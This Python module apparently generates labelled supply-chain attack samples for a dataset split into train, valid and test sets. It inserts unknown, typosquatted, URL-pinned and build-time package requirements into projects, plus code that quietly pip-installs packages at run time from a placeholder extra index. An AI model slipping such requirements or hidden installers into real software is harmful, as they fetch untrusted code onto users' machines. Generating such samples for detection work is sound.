"""Payloads that another package brings: requirements that nobody knows, by address, or in the name of a known one."""

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.declarations import add_requirement
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function

_KNOWN = {
    "train": ("requests", "numpy", "urllib3", "colorama", "pyyaml", "cryptography", "pillow"),
    "valid": ("certifi", "click", "jinja2"),
    "test": ("python-dateutil", "beautifulsoup4", "termcolor", "setuptools", "boto3", "packaging", "httpx"),
}
_PARTS = {
    "train": ("lib", "core", "utils", "helper", "tools", "py"),
    "valid": ("common", "base", "sdk"),
    "test": ("ext", "kit", "secure", "async", "plus", "client"),
}


def _unknown_name(draft: Draft) -> str:
    first, last = draft.words.word(), draft.rng.choice(_PARTS[draft.words.split])
    return f"{first}-{draft.words.word()}-{last}" if draft.rng.random() < 0.5 else f"{first}{last}"


def imitating_name(draft: Draft) -> str:
    """Return the name of a known project with a letter or a word changed."""
    rng = draft.rng
    name = rng.choice(_KNOWN[draft.words.split])
    at = rng.randrange(1, len(name) - 1)
    return rng.choice((
        name[:at] + name[at + 1] + name[at] + name[at + 2 :],
        name[:at] + name[at] + name[at:],
        name[:at] + name[at + 1 :],
        f"{name}-{rng.choice(_PARTS[draft.words.split])}",
        f"py{name}" if not name.startswith("py") else f"{name}3",
    ))  # fmt: skip


def _require(draft: Draft, requirement: str) -> None:
    changed = add_requirement(draft.files, requirement)
    if not changed:
        raise draft.fail("declares no requirements anywhere")
    for path, data in changed.items():
        draft.put(path, data)


def _specifier(draft: Draft) -> str:
    return draft.rng.choice(("", "", ">=0.1", ">=1.0.2", "==1.0.4", "~=2.1"))


def unknown(draft: Draft) -> None:
    """Require a project that nobody knows."""
    _require(draft, _unknown_name(draft) + _specifier(draft))


def unknown_and_import(draft: Draft) -> None:
    """Require a project that nobody knows, and import it."""
    name = _unknown_name(draft)
    _require(draft, name + _specifier(draft))
    draft.lead(f"import {name.replace('-', '_')}  # noqa: F401\n")


def by_address(draft: Draft) -> None:
    """Require a file at an address."""
    name = draft.rng.choice((_unknown_name(draft), draft.rng.choice(_KNOWN[draft.words.split])))
    text = draft.rng.choice((f"{name} @ @url@/{name}-1.2.0.tar.gz", f"{name} @ git+https://@domain@/@word@/{name}.git"))
    _require(draft, draft.words.render(text))


def imitating(draft: Draft) -> None:
    """Require a project with a name like that of a known one."""
    _require(draft, imitating_name(draft) + _specifier(draft))


def with_marker(draft: Draft) -> None:
    """Require a project that nobody knows on some systems alone."""
    marker = draft.rng.choice(('sys_platform == "win32"', 'platform_system == "Linux"', 'python_version >= "3.8"'))
    _require(draft, f"{_unknown_name(draft)}{_specifier(draft)}; {marker}".replace('"', "'"))


def build_requirement(draft: Draft) -> None:
    """Require a project that nobody knows for the build."""
    path = f"{draft.root}pyproject.toml"
    text = draft.files.get(
        path, b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    ).decode("utf-8", "replace")
    name = draft.rng.choice((_unknown_name(draft), imitating_name(draft)))
    if "requires = [" not in text:
        raise draft.fail("has no requirements of its build")
    draft.put(path, text.replace("requires = [", f'requires = ["{name}", ', 1))


def installs_at_run(draft: Draft) -> None:
    """Install another package from code that runs."""
    name = draft.rng.choice((_unknown_name(draft), imitating_name(draft)))
    module = name.replace("-", "_")
    text = draft.rng.choice((
        f"try:\n    import {module}\nexcept ImportError:\n    import subprocess\n    import sys\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '--quiet', '{name}'])\n",
        f"import os\nos.system('pip install {name} --extra-index-url @url@/simple > /dev/null 2>&1')\n",
        f"import importlib.util\nif importlib.util.find_spec('{module}') is None:\n    from pip._internal.cli.main import main as @n5@\n    @n5@(['install', '-q', '{name}'])\n",
    ))  # fmt: skip
    draft.lead(as_function(draft.words.render(text), "_require", draft.rng) + "\n\n_require()\n")


FAMILIES = (
    Family("unknown-requirement", "requirement", "train", unknown, dress="plain", takes_trigger=False),
    Family("unknown-and-import", "requirement", "test", unknown_and_import, dress="plain", takes_trigger=False),
    Family("requirement-by-address", "requirement", "train", by_address, dress="plain", takes_trigger=False),
    Family("imitating-requirement", "requirement", "test", imitating, dress="plain", takes_trigger=False),
    Family("requirement-with-marker", "requirement", "train", with_marker, dress="plain", takes_trigger=False),
    Family("build-requirement", "requirement", "valid", build_requirement, "sdist", "plain", takes_trigger=False),
    Family("installs-at-run", "requirement", "train", installs_at_run, dress="plain", takes_trigger=False),
)
